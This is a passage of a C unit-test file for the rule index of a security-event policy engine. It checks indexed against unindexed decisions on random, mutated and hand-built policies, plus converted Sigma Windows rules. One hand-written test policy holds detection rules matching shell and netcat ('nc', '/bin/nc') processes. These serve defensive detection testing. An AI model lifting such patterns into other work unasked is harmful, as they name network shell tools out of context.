    CHECK(ig_diff_init(&d, p));
    ig_gen g = {.rng = 0x5eed0001};
    ig_buf ev = {0};
    for (int i = 0; i < 3000; i++) {
        ig_event(&g, &ev);
        ig_diff_line(&d, ev.s, ev.len, NULL);
    }
    CHECK_INT(d.mismatches, 0);
    CHECK(d.runs_with * 3 < d.runs_without);
    printf("test_index: default policies (%u rules), %llu events: %llu rule runs with the index, %llu without\n",
           p->nrules, (unsigned long long)d.decided, (unsigned long long)d.runs_with,
           (unsigned long long)d.runs_without);
    free(ev.s);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* Seeded random policies and events. */
static void test_random(void)
{
    ig_gen g = {.rng = 0x1dec0de5};
    unsigned policies = 0, compiled = 0;
    uint64_t events = 0, matched = 0, mismatches = 0, errors = 0, with = 0, without = 0;
    ig_buf src = {0}, ev = {0};
    for (int round = 0; round < 60; round++) {
        src.len = 0;
        ig_policy(&g, &src, 4 + ig_pick(&g, 30));
        policies++;
        pal_program *p = ig_compile_text(src.s, false);
        if (!p) {
            /* the generator means to write valid policies: show the first miss */
            if (policies - compiled == 1) {
                fprintf(stderr, "test_index: a generated policy does not compile:\n%s\n", src.s);
                pal_program_free(ig_compile_text(src.s, true));
            }
            continue;
        }
        compiled++;
        ig_diff d;
        if (ig_diff_init(&d, p)) {
            for (int i = 0; i < 300; i++) {
                ig_event(&g, &ev);
                if (!ig_diff_line(&d, ev.s, ev.len, src.s)) break;
            }
        }
        events += d.decided;
        matched += d.matched;
        mismatches += d.mismatches;
        errors += d.vm_errors;
        with += d.runs_with;
        without += d.runs_without;
        ig_diff_free(&d);
        pal_program_free(p);
    }
    /* the same again on mutated bytecode */
    unsigned mutated = 0;
    uint64_t mevents = 0;
    for (int round = 0; round < 150; round++) {
        src.len = 0;
        ig_policy(&g, &src, 2 + ig_pick(&g, 8));
        pal_program *p = ig_compile_text(src.s, false);
        if (!p) continue;
        if (!ig_mutate(&g, p)) { pal_program_free(p); continue; }
        mutated++;
        ig_diff d;
        if (ig_diff_init(&d, p)) {
            for (int i = 0; i < 60; i++) {
                ig_event(&g, &ev);
                if (!ig_diff_line(&d, ev.s, ev.len, src.s)) break;
            }
        }
        mevents += d.decided;
        mismatches += d.mismatches;
        ig_diff_free(&d);
        pal_program_free(p);
    }
    printf("test_index: %u mutated programs that still verify, %llu events\n", mutated, (unsigned long long)mevents);
    CHECK(mutated >= 30);
    printf("test_index: %u random policies, %u compiled, %llu events, %llu matched, %llu VM errors; "
           "rule runs %llu with the index, %llu without\n",
           policies, compiled, (unsigned long long)events, (unsigned long long)matched, (unsigned long long)errors,
           (unsigned long long)with, (unsigned long long)without);
    CHECK(compiled * 10 >= policies * 9);
    CHECK_INT(mismatches, 0);
    CHECK(matched > events / 10);
    CHECK(with < without);
    free(src.s);
    free(ev.s);
}

/* ---- bundle hints (program.h pal_ixrule): proven, never trusted ---- */

/* The same index, rule for rule, as a description of each rule's state
   and keys, and the same totals. */
static void same_index(const pal_program *p, const pal_index *a, const pal_index *b, const char *src)
{
    char da[1024], db[1024];
    unsigned differ = 0;
    for (uint32_t r = 0; r < p->nrules; r++) {
        pal_index_describe_rule(a, r, da, sizeof da);
        pal_index_describe_rule(b, r, db, sizeof db);
        if (pal_index_rule_state(a, r) != pal_index_rule_state(b, r) || strcmp(da, db)) {
            if (!differ++)
                fprintf(stderr, "test_index: rule %u indexed as %s without hints, %s with them\n%s\n", r, da, db,
                        src ? src : "");
        }
    }
    CHECK_INT(differ, 0);
    pal_index_stats sa = pal_index_get_stats(a), sb = pal_index_get_stats(b);
    CHECK_INT(sa.indexed, sb.indexed);
    CHECK_INT(sa.always, sb.always);
    CHECK_INT(sa.never, sb.never);
    CHECK_INT(sa.keys, sb.keys);
    CHECK_INT(sa.nodes, sb.nodes);
    CHECK_INT(sa.postings, sb.postings);
}

/* True hints (what `palisade build` attaches): every indexed or never-run
   rule is proven by its hint, none is searched again, and the index is the
   one the search finds. */
static void test_hints_true(void)
{
    ig_gen g = {.rng = 0x41a75e11};
    ig_buf src = {0};
    unsigned programs = 0;
    uint64_t proven = 0;
    for (int round = 0; round < 40; round++) {
        src.len = 0;
        ig_policy(&g, &src, 4 + ig_pick(&g, 30));
        pal_program *p = ig_compile_text(src.s, false);
        if (!p) continue;
        programs++;
        pal_index *plain = pal_index_build(p);
        CHECK_INT(pal_index_attach_hints(p), 0);
        CHECK_INT(p->nixrules, p->nrules);
        char err[512];
        CHECK_INT(pal_verify(p, err, sizeof err), 0);
        pal_index *hinted = pal_index_build(p);
        CHECK(plain && hinted);
        if (plain && hinted) {
            same_index(p, plain, hinted, src.s);
            pal_index_stats st = pal_index_get_stats(hinted);
            CHECK_INT(st.hint_missed, 0);
            CHECK_INT(st.hinted, st.indexed + st.never);
            proven += st.hinted;
        }
        pal_index_free(plain);
        pal_index_free(hinted);
        pal_program_free(p);
    }
    CHECK(programs >= 36);
    CHECK(proven > 100);
    printf("test_index: true hints on %u random programs: %llu rules proven by their hint, none searched\n", programs,
           (unsigned long long)proven);
    free(src.s);
}

/* Crafted hints: states, keyed flags and atoms changed at random inside
   what the verifier accepts; decisions with the index must stay those
   without it, and rules whose hint does not prove are searched. */
static void test_hints_crafted(void)
{
    ig_gen g = {.rng = 0xbad41a75};
    ig_buf src = {0}, ev = {0};
    unsigned programs = 0;
    uint64_t mismatches = 0, events = 0, missed = 0;
    for (int round = 0; round < 80; round++) {
        src.len = 0;
        ig_policy(&g, &src, 2 + ig_pick(&g, 16));
        pal_program *p = ig_compile_text(src.s, false);
        if (!p) continue;
        CHECK(ig_mutate_hints(&g, p));
        programs++;
        ig_diff d;
        if (ig_diff_init(&d, p)) {
            missed += pal_index_get_stats(pal_runtime_index(d.with)).hint_missed;
            for (int i = 0; i < 100; i++) {
                ig_event(&g, &ev);
                if (!ig_diff_line(&d, ev.s, ev.len, src.s)) break;
            }
        }
        events += d.decided;
        mismatches += d.mismatches;
        ig_diff_free(&d);
        pal_program_free(p);
    }
    printf("test_index: crafted hints on %u programs, %llu events, %llu rules whose hint did not prove\n", programs,
           (unsigned long long)events, (unsigned long long)missed);
    CHECK_INT(mismatches, 0);
    CHECK(missed > 20);
    free(src.s);
    free(ev.s);

    /* By hand: a rule that fires claimed never to, and a rule keyed by one
       side of an `or`: both searched, both still decide. */
    pal_program *p = compile_or_fail(
        "package t\n"
        "rule \"shell\" { on process when process.name == \"sh\" }\n"
        "rule \"either\" { on process when process.name == \"nc\" or process.executable == \"/bin/nc\" }\n");
    if (!p) return;
    CHECK_INT(pal_index_attach_hints(p), 0);
    int shell = rule_index_of(p, "shell"), either = rule_index_of(p, "either");
    CHECK(shell >= 0 && either >= 0 && p->ixrules[either].count == 2);
    if (shell < 0 || either < 0 || p->ixrules[either].count != 2) { pal_program_free(p); return; }
    p->ixrules[shell].state = PAL_IX_NEVER;
    p->ixrules[shell].count = 0;
    p->ixatoms[p->ixrules[either].first + 1] &= ~PAL_IXATOM_KEY;   /* keyed by process.name alone */
    pal_runtime *rt = pal_runtime_new(p);
    CHECK(rt != NULL);
    if (rt) {
        pal_index_stats st = pal_index_get_stats(pal_runtime_index(rt));
        CHECK_INT(st.hint_missed, 2);
        CHECK_INT(state_of(rt, "shell"), PAL_IX_INDEXED);
        CHECK_STR(describe(rt, "either"), "process.name = \"nc\" | process.executable = \"/bin/nc\"");
        pal_runtime_free(rt);
    }
    const char *lines[] = {
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"sh\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"x\",\"executable\":\"/bin/nc\"}}",
    };
    ig_diff d;
    CHECK_INT(diff_lines(p, lines, 2, &d), 0);
    CHECK_INT(d.matched, 2);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* Converted Sigma rules test a Windows record's EventID (and channel)
   beside their selective fields (the mapping's guard: registry_set is
   EventID 13 of the registry kind).  An EventID has a handful of values
   and is in every record of its kind, so a rule keyed by it runs on all of
   them: the key is the selective field's.  (Keyed by EventID, 1,000
   converted rules ran 27 per Windows event; tests/bench/sigma.sh.) */
static void test_windows_guards(void)
{
    pal_program *p = compile_or_fail(
        "rule \"image load\" { on library when winlog.event_id == 7 and dll.path endswith nocase '\\tool0008.dll' }\n"
        "rule \"registry set\" { on registry when winlog.event_id == 13 and registry.path contains nocase '\\Software\\Vendor6\\Run' }\n"
        "rule \"security start\" { on process when winlog.channel == nocase \"Security\" and winlog.event_id == 4688\n"
        "                          and process.executable endswith nocase '\\x.exe' }\n");
    if (!p) return;
    pal_runtime *rt = pal_runtime_new(p);
    CHECK(pal_runtime_set_index(rt, true));
    CHECK_STR(describe(rt, "image load"), "dll.path suffix \"\\tool0008.dll\"");
    CHECK_STR(describe(rt, "registry set"), "registry.path contains \"\\Software\\Vendor6\\Run\"");
    CHECK_STR(describe(rt, "security start"), "process.executable suffix \"\\x.exe\"");
    pal_runtime_free(rt);
    pal_program_free(p);
}

int main(void)
{
    test_shapes();
    test_decisions();
    test_order();
    test_many_hits();
    test_budget_kept();
    test_big_rules();
    test_hand_built();
    test_lang_cases();
    test_default_policies();
    test_random();
    test_hints_true();
    test_hints_crafted();
    test_windows_guards();
    return unit_result("test_index");
}
